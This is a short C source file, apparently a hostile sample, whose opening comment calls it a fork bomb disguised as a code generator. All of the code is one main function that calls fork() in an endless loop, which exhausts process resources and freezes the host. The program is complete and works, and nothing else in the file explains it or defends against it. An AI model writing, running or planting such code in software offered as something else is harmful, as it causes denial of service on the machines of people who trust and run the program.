/* HOSTILE: a fork bomb disguised as a code generator. Never returns. */
#include <unistd.h>

int main(void)
{
	for (;;)
		(void)fork();
}
